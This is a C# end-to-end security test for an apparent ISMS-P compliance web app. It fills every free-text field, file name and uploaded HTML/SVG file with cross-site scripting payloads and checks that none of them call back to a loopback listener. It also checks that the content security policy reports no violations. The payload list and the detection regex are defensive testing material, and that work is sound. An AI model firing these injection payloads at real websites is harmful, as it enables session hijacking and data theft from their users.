using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Jikimi.TestSupport.Data;
using Microsoft.Playwright;

namespace Jikimi.E2E;

/// <summary>
/// Issue 16, item 7: script, attribute and URL payloads in every free-text field and file name, each of which would
/// call back to a loopback listener if the browser ran or loaded it. Every page and HTML report that shows them is
/// opened in Chromium twice: with the app's Content-Security-Policy bypassed (so escaping alone must hold: the listener
/// stays silent and no injected element exists) and with it in force (no policy violation either, which would mean
/// markup got through and only the policy stopped it). Uploaded HTML and SVG evidence is downloaded, never rendered on
/// the app's origin.
/// </summary>
[Collection(BrowserCollection.Name)]
public sealed class InjectionCallbackTests(BrowserFixture browser)
{
    [Fact]
    public async Task Payloads_in_every_free_text_field_and_file_name_never_execute_on_any_page_or_report()
    {
        await using var listener = CallbackListener.Start();
        var cb = $"//127.0.0.1:{listener.Port}";
        string[] payloads =
        [
            $"<script src={cb}/s></script>",
            $"<img src={cb}/i onerror=fetch('{cb}/e')>",
            $"\" autofocus onfocus=\"fetch('{cb}/a')\" x=\"",
            $"' onmouseover='fetch(`{cb}/q`)' x='",
            $"javascript:fetch('{cb}/u')",
            $"<svg onload=fetch('{cb}/v')>",
            $"<iframe src=http:{cb}/f></iframe>",
            $"<style>@import 'http:{cb}/c';</style>",
        ];
        var next = 0;
        string P(string prefix = "") => prefix + payloads[next++ % payloads.Length];

        await using var app = await LiveApp.StartAsync(TestDatabase.Sqlite);
        using var http = new HttpClient { BaseAddress = new Uri(app.BaseUrl) };
        await Ok(http.PostAsJsonAsync("/api/v1/setup", new { setupToken = app.SetupToken, email = "admin@jikimi.test", displayName = P("관리자"), password = "Strong-pass-2026" }));
        var session = (await Ok(http.PostAsJsonAsync("/api/v1/auth/login", new { email = "admin@jikimi.test", password = "Strong-pass-2026" }))).GetProperty("token").GetString()!;
        http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", session);

        // Seed every free-text field the API takes, through the same use cases the pages call.
        var org = Id(await Ok(http.PostAsJsonAsync("/api/v1/orgs", new { name = P("조직") })));
        var o = $"/api/v1/orgs/{org}";
        var scopeVersion = (await Ok(http.GetAsync($"{o}/scope"))).GetProperty("version").GetInt32();
        await Ok(http.PutAsJsonAsync($"{o}/scope", new { certification = "isms-p", edition = "2023", description = P(), methodsAndProcedures = P(), version = scopeVersion }));
        await Ok(http.PostAsJsonAsync($"{o}/scope/items", new { kind = "service", name = P(), description = P(), provider = P(), region = P(), reference = P() }));
        var assessment = Id(await Ok(http.PostAsJsonAsync($"{o}/assessments", new { year = 2026, edition = "2023", title = P() })));
        var a = $"{o}/assessments/{assessment}";
        await Ok(http.PutAsJsonAsync($"{a}/controls/1.1.1", new { status = "in-progress", applicable = true, operationStatus = P(), relatedDocuments = P(), evidenceRecords = P(), version = 0 }));
        await Ok(http.PutAsJsonAsync($"{a}/controls/1.1.2", new { status = "done", applicable = false, notApplicableReason = P(), version = 0 }));
        await Ok(http.PutAsJsonAsync($"{a}/check-items/1.1.1-1", new { result = "partial", note = P(), version = 0 }));
        await Ok(http.PostAsJsonAsync($"{a}/controls/1.1.1/comments", new { body = P() }));
        var evidence = Id(await Upload(http, $"{o}/evidence", P() + ".txt", "text/plain", "내용"u8.ToArray(), ("title", P()), ("description", P()), ("link", $"{assessment}:1.1.1")));
        var html = Id(await Upload(http, $"{o}/evidence", P() + ".html", "text/html", Encoding.UTF8.GetBytes($"<script>fetch('{cb}/html')</script><img src=http:{cb}/html-img>"), ("title", "html"), ("link", $"{assessment}:1.1.1")));
        var svg = Id(await Upload(http, $"{o}/evidence", "drawing.svg", "image/svg+xml", Encoding.UTF8.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('{cb}/svg')\"><script>fetch('{cb}/svg-script')</script></svg>"), ("title", "svg"), ("link", $"{assessment}:1.1.1")));
        await Ok(http.PostAsJsonAsync($"{o}/members", new { email = "member@jikimi.test", displayName = P(), role = "viewer" }));
        await Ok(http.PostAsJsonAsync($"{o}/api-tokens", new { name = P(), role = "viewer" }));
        var audit = Id(await Ok(http.PostAsJsonAsync($"{o}/audits", new { kind = "initial", operatingSince = "2020-01-01", body = P(), team = P(), samplingNotes = P(), otherCertifications = P(), assessmentId = assessment })));
        var recorded = await Ok(http.PostAsJsonAsync($"{o}/audits/{audit}/findings", new { controlId = "1.1.1", description = P(), evidenceRefs = P() }));
        var finding = Id(recorded);
        await Ok(http.PostAsJsonAsync($"{o}/findings/{finding}/plan", new { rootCause = P(), action = P(), owner = P(), dueOn = recorded.GetProperty("currentDueOn").GetString() }));
        await Ok(http.PostAsJsonAsync($"{o}/assets", new { assetId = "A-1", name = P(), type = "server", location = P(), confidentiality = 3, integrity = 3, availability = 3 }));
        var asset = (await Ok(http.GetAsync($"{o}/assets"))).GetProperty("items")[0].GetProperty("id").GetGuid();
        var threat = Id(await Ok(http.PostAsJsonAsync($"{o}/risk/threats", new { code = "X1", nameKo = P(), nameEn = P() })));
        var riskAssessment = Id(await Ok(http.PostAsJsonAsync($"{o}/risk/assessments", new { year = 2026 })));
        var risk = Id(await Ok(http.PostAsJsonAsync($"{o}/risk/assessments/{riskAssessment}/risks", new { assetId = asset, threatId = threat, threatLevel = 3, vulnerabilityLevel = 3, vulnerability = P() })));
        await Ok(http.PostAsJsonAsync($"{o}/pi-flows", new { service = P(), stage = "collection", items = P(), legalBasis = P(), systems = P(), recipients = P() }));
        var policy = Id(await Ok(http.PostAsJsonAsync($"{o}/policies", new { code = "P-1", title = P(), owner = P(), controls = new[] { "1.1.1" } })));
        await Ok(http.PostAsJsonAsync($"{o}/policies/{policy}/approve", new { }));
        await Ok(http.PostAsJsonAsync($"{o}/policies/{policy}/versions", new { changeNote = P() }));
        await Ok(http.PostAsJsonAsync($"{o}/subject-requests", new { kind = "access", channel = P(), reference = P(), summary = P() }));
        Assert.True(next >= payloads.Length * 3, "every payload kind went into several fields");

        var pages = new[]
        {
            "/", "/my-audits", "/account", $"/orgs/{org}", $"/orgs/{org}/scope", $"/orgs/{org}/assessments",
            $"/orgs/{org}/assessments/{assessment}/controls", $"/orgs/{org}/assessments/{assessment}/controls/1.1.1",
            $"/orgs/{org}/assessments/{assessment}/controls/1.1.2", $"/orgs/{org}/assessments/{assessment}/documents",
            $"/orgs/{org}/evidence", $"/orgs/{org}/evidence/{evidence}", $"/orgs/{org}/evidence/{html}", $"/orgs/{org}/members",
            $"/orgs/{org}/api-tokens", $"/orgs/{org}/audit-trail", $"/orgs/{org}/certification", $"/orgs/{org}/audits/{audit}",
            $"/orgs/{org}/findings/{finding}", $"/orgs/{org}/assets", $"/orgs/{org}/risks", $"/orgs/{org}/risks/{risk}",
            $"/orgs/{org}/flows", $"/orgs/{org}/policies", $"/orgs/{org}/subject-requests",
        };
        var reports = new[] { $"{a}/reports/readiness?format=html&lang=ko", $"{a}/reports/readiness?format=html&lang=en", $"{o}/audits/{audit}/reports/findings?format=html&lang=ko" };

        var failures = new List<string>();
        foreach (var bypass in new[] { true, false })
        {
            var context = await browser.Browser.NewContextAsync(new BrowserNewContextOptions { BypassCSP = bypass, Locale = "ko-KR" });
            context.SetDefaultTimeout(15_000);
            await context.AddCookiesAsync([new Microsoft.Playwright.Cookie { Name = "jikimi_session", Value = session, Url = app.BaseUrl }]);
            await context.AddInitScriptAsync("window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));");
            var page = await context.NewPageAsync();
            page.Dialog += (_, d) => d.DismissAsync();
            foreach (var url in pages)
            {
                var r = await page.GotoAsync(app.Url(url));
                if (r?.Status != 200)
                {
                    failures.Add($"{url}: {r?.Status}");
                    continue;
                }

                await CheckAsync(page, url, bypass, failures);
            }

            // HTML reports are files; their markup is opened in the browser as it is.
            foreach (var url in reports)
            {
                var body = await (await http.GetAsync(url)).Content.ReadAsStringAsync();
                Assert.Contains("<html", body, StringComparison.OrdinalIgnoreCase);
                await page.GotoAsync(app.Url("/obligation"));
                await page.SetContentAsync(body);
                await CheckAsync(page, url, bypass, failures);
            }

            // Uploaded HTML and SVG never render on the app's origin: the browser is handed a download.
            foreach (var id in new[] { html, svg })
            {
                var itemPage = app.Url($"/orgs/{org}/evidence/{id}");
                await page.GotoAsync(itemPage);
                var download = await page.RunAndWaitForDownloadAsync(() => page.ClickAsync("a[href*='handler=Download']"));
                Assert.False(string.IsNullOrEmpty(download.SuggestedFilename));
                Assert.Equal(itemPage, page.Url);
            }

            await context.CloseAsync();
        }

        // The listener itself works (a positive control), and it heard nothing from the browser.
        var heard = listener.Heard;
        using (var probe = new TcpClient())
        {
            await probe.ConnectAsync(IPAddress.Loopback, listener.Port);
        }

        await listener.WaitForAsync(1);
        Assert.True(heard.Count == 0 && listener.Connections == 1, $"callbacks reached the listener ({listener.Connections - 1} connections): " + string.Join(", ", heard));
        Assert.True(failures.Count == 0, string.Join("\n", failures));
    }

    private static async Task CheckAsync(IPage page, string url, bool bypass, List<string> failures)
    {
        // Focus and hover every element that could carry an injected handler, so an attribute payload would fire.
        await page.EvaluateAsync("() => { for (const el of document.querySelectorAll('input, textarea, select, a, button, td, span, p, h1, h2, li, strong')) { el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); if (el.focus) el.focus(); } }");
        var injected = await page.EvaluateAsync<string[]>("""
            () => [...document.querySelectorAll('*')].flatMap(el => [...el.attributes]
                .filter(a => /^on/i.test(a.name) || (/^(src|href|action|formaction|data)$/i.test(a.name) && /127\.0\.0\.1|^\s*javascript:/i.test(a.value)))
                .map(a => el.tagName + '[' + a.name + '=' + a.value.slice(0, 60) + ']'))
            """);
        foreach (var i in injected)
        {
            failures.Add($"{url}: injected {i}");
        }

        if (!bypass)
        {
            foreach (var v in await page.EvaluateAsync<string[]>("() => window.__violations ?? []"))
            {
                failures.Add($"{url}: CSP violation {v} (markup got through; only the policy stopped it)");
            }
        }
    }

    private static Guid Id(JsonElement e) => e.GetProperty("id").GetGuid();

    private static async Task<JsonElement> Ok(Task<HttpResponseMessage> call)
    {
        var r = await call;
        var body = await r.Content.ReadAsStringAsync();
        Assert.True(r.IsSuccessStatusCode, $"{r.RequestMessage?.Method} {r.RequestMessage?.RequestUri}: {(int)r.StatusCode} {body}");
        return body.Length == 0 ? default : JsonDocument.Parse(body).RootElement.Clone();
    }

    private static Task<JsonElement> Upload(HttpClient http, string url, string fileName, string type, byte[] content, params (string Name, string Value)[] fields)
    {
        var form = new MultipartFormDataContent();
        foreach (var (name, value) in fields)
        {
            form.Add(new StringContent(value), name);
        }

        var file = new ByteArrayContent(content);
        file.Headers.ContentType = new MediaTypeHeaderValue(type);
        file.Headers.ContentDisposition = new ContentDispositionHeaderValue("form-data") { Name = "\"file\"", FileNameStar = fileName };
        form.Add(file);
        return Ok(http.PostAsync(url, form));
    }

    /// <summary>A loopback TCP listener that records every connection and the first request line it receives.</summary>
    private sealed class CallbackListener : IAsyncDisposable
    {
        private readonly TcpListener tcp;
        private readonly List<string> heard = [];
        private readonly CancellationTokenSource stop = new();
        private readonly Task loop;
        private int connections;

        private CallbackListener(TcpListener tcp)
        {
            this.tcp = tcp;
            loop = Task.Run(AcceptAsync);
        }

        public int Port => ((IPEndPoint)tcp.LocalEndpoint).Port;

        public int Connections => Volatile.Read(ref connections);

        /// <summary>The request lines heard so far (a snapshot).</summary>
        public List<string> Heard
        {
            get { lock (heard) { return [.. heard]; } }
        }

        public static CallbackListener Start()
        {
            var tcp = new TcpListener(IPAddress.Loopback, 0);
            tcp.Start();
            return new CallbackListener(tcp);
        }

        public async Task WaitForAsync(int count)
        {
            var until = DateTime.UtcNow.AddSeconds(10);
            while (Volatile.Read(ref connections) < count && DateTime.UtcNow < until)
            {
                await Task.Delay(20);
            }

            Assert.True(Volatile.Read(ref connections) >= count, "the callback listener did not hear the probe");
        }

        private async Task AcceptAsync()
        {
            while (!stop.IsCancellationRequested)
            {
                TcpClient client;
                try
                {
                    client = await tcp.AcceptTcpClientAsync(stop.Token);
                }
                catch (OperationCanceledException)
                {
                    return;
                }

                Interlocked.Increment(ref connections);
                _ = Task.Run(async () =>
                {
                    using (client)
                    {
                        var buffer = new byte[512];
                        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(2));
                        var n = 0;
                        try
                        {
                            n = await client.GetStream().ReadAsync(buffer, timeout.Token);
                        }
                        catch (Exception e) when (e is OperationCanceledException or IOException)
                        {
                        }

                        var line = Encoding.ASCII.GetString(buffer, 0, n).Split('\n')[0].Trim();
                        if (line.Length > 0)
                        {
                            lock (heard)
                            {
                                heard.Add(line);
                            }
                        }
                    }
                });
            }
        }

        public async ValueTask DisposeAsync()
        {
            await stop.CancelAsync();
            tcp.Stop();
            await loop;
            stop.Dispose();
        }
    }
}
